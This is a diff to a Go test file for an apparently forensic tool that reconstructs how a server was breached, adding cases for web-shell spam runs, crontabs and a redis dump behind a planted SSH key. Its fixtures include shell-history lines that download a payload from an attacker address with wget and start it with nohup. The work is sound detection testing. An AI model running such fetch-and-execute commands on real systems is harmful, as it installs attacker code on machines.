@@ -3,6 +3,7 @@ package story
 import (
 	"slices"
 	"testing"
+	"time"
 
 	"telltale/detect"
 	"telltale/evidence"
@@ -53,6 +54,22 @@ func mails(source string) detect.Finding {
 	return detect.Finding{Detection: "D73", What: detect.MailRun, Title: "400 mails", Level: detect.High, Rung: evidence.Effect, Account: "bob", Count: 400, Sources: []string{source}, First: at("03:00:00"), Last: at("03:05:00"), Mechanism: "sasl", For: quote("/var/log/mail.log")}
 }
 
+// mailed is a run of mail that the web server's account handed in at these times.
+func mailed(when ...string) detect.Finding {
+	f := detect.Finding{Detection: "D73", What: detect.MailRun, Title: "400 mails", Level: detect.High, Rung: evidence.Effect, Account: "www-data", Count: 400, First: at(when[0]), Last: at(when[len(when)-1]), Mechanism: "local", For: quote("/var/log/mail.log")}
+	for _, t := range when {
+		f.When = append(f.When, at(t))
+	}
+	return f
+}
+
+// words are those of a child of the web server, which has no client and no exact time.
+func words(when string, step time.Duration) detect.Finding {
+	t := at(when)
+	t.Step = step
+	return detect.Finding{Detection: "D21", What: detect.WebExecution, Title: "child", Level: detect.High, Rung: evidence.Effect, First: t, Last: t, Detail: "chmod:", For: quote("/var/log/apache2/error.log")}
+}
+
 func typed(what string, l detect.Level) detect.Finding {
 	return detect.Finding{Detection: "D36", What: detect.Command, Mechanism: "history", Title: "bob typed", Account: "bob", Runs: what, Level: l, Rung: evidence.Effect, Path: "/home/bob/.bash_history", Count: 1, When: []evidence.Time{at("03:10:01")}, For: quote("/home/bob/.bash_history")}
 }
@@ -87,6 +104,13 @@ func TestVectors(t *testing.T) {
 		{"a mail login gives no shell", "unknown", "", []string{}, []detect.Finding{amy, smtp, twin("03:05:00"), cron("/etc/cron.d/x", "/var/tmp/.x/y", detect.Critical, "03:02:00")}},
 		{"a script's requests made things, nobody knows how it came", "web-exploit", "www-data", []string{"203.0.113.6"}, append([]detect.Finding{amy, shell}, effects...)},
 		{"the site's own page, older than its first request", "", "", nil, []detect.Finding{amy, with(shell, func(f *detect.Finding) { f.First = evidence.Unix(1600000000, 0, 1) }), crontab("www-data", "03:00:05")}},
+		{"one crontab behind a request may be chance", "", "", nil, []detect.Finding{amy, shell, crontab("www-data", "03:00:05")}},
+		{"a crontab, and a shell's words at the same time", "web-exploit", "www-data", []string{"203.0.113.6"}, []detect.Finding{amy, shell, crontab("www-data", "03:00:05"), words("02:59:30", time.Hour)}},
+		{"a shell's words of another time", "", "", nil, []detect.Finding{amy, shell, crontab("www-data", "03:00:05"), words("01:00:00", time.Minute)}},
+		{"an odd script that sends mail", "web-exploit", "www-data", []string{"203.0.113.6"}, []detect.Finding{amy, with(shell, func(f *detect.Finding) { f.Level = detect.Medium }), mailed("03:00:01", "03:00:02", "03:00:09")}},
+		{"a page of the site that sends mail", "", "", nil, []detect.Finding{amy, shell, mailed("03:00:01", "03:00:02", "03:00:09")}},
+		{"an odd script, and mail at all times", "", "", nil, []detect.Finding{amy, with(shell, func(f *detect.Finding) { f.Level = detect.Medium }), mailed("03:00:01", "04:00:02", "05:00:09")}},
+		{"an administrator was there when a script made things", "web-exploit", "www-data", []string{"203.0.113.6"}, append([]detect.Finding{amy, shell, login(detect.Login, "eve", "203.0.113.77", "publickey", "02:50:00", "03:10:00", detect.Access{NewAddress: true}), sudo("eve", "02:51:00")}, effects...)},
 		{"by ftp", "ftp-password", "bob", []string{"203.0.113.6"}, append([]detect.Finding{amy, shell, uploaded("vsftpd", "bob", "")}, effects...)},
 		{"by an open share", "open-share", "nobody", []string{"203.0.113.6"}, append([]detect.Finding{amy, shell, uploaded("smbd", "nobody", "")}, effects...)},
 		{"copied by a daemon for a client that never logged in", "daemon-exploit", "nobody", []string{"203.0.113.6"}, append([]detect.Finding{amy, shell, uploaded("proftpd", "nobody", "none")}, effects...)},
@@ -95,6 +119,7 @@ func TestVectors(t *testing.T) {
 		{"a history that fetches from the login's address", "ssh-password-known", "bob", []string{"203.0.113.6"}, []detect.Finding{amy, foreign, typed("wget http://203.0.113.6/x -O /tmp/.x/y", detect.High), typed("nohup /tmp/.x/y &", detect.High)}},
 		{"a history written when the session ended", "ssh-password-known", "bob", []string{"203.0.113.6"}, []detect.Finding{amy, foreign, typed("wget http://192.0.2.1/x -O /tmp/.x/y", detect.High), typed("nohup /tmp/.x/y &", detect.High)}},
 		{"a history that another session wrote", "", "", nil, []detect.Finding{amy, with(foreign, func(f *detect.Finding) { f.Access.Sessions[0].End = at("05:00:00") }), typed("wget http://192.0.2.1/x -O /tmp/.x/y", detect.High), typed("nohup /tmp/.x/y &", detect.High)}},
+		{"a redis dump that was saved once more behind the login", "database-exposed", "root", []string{"203.0.113.8"}, []detect.Finding{amy, with(dump, func(f *detect.Finding) { f.First, f.Last = at("03:00:00"), at("03:00:00") }), key("SHA256:bad", "/root/.ssh/authorized_keys", "root", "03:00:00"), byKey("root", "203.0.113.8", "SHA256:bad", "02:10:00", "02:20:00")}},
 		{"a redis dump with a key that was used", "database-exposed", "root", []string{"203.0.113.8"}, []detect.Finding{amy, dump, key("SHA256:bad", "/root/.ssh/authorized_keys", "root", "02:00:00"), byKey("root", "203.0.113.8", "SHA256:bad", "02:10:00", "02:20:00")}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
